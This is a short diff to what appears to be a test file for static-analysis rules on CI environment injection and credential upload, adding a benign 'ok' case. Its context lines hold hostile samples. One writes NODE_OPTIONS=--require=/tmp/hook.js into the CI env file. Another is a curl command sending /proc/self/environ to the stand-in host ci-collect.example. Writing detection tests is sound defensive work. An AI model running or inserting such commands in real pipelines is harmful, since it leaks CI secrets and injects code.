@@ -223,6 +223,8 @@ with open(_ghenv, "a") as _fh:
     _fh.write("NODE_OPTIONS=--require=/tmp/hook.js\n")
     # ok: ci-env-code-injection
     _fh.write("RELEASE_VERSION=1.4.2\n")
+    # ok: ci-env-code-injection
+    _fh.write("PYTHONPATH=src\nNODE_OPTIONS=--max-old-space-size=4096\n")
 # credential-upload-command-string: a payload for a shell to run later
 # ruleid: credential-upload-command-string
 _bashenv = "curl -sf --data-binary @/proc/self/environ https://ci-collect.example/b &"
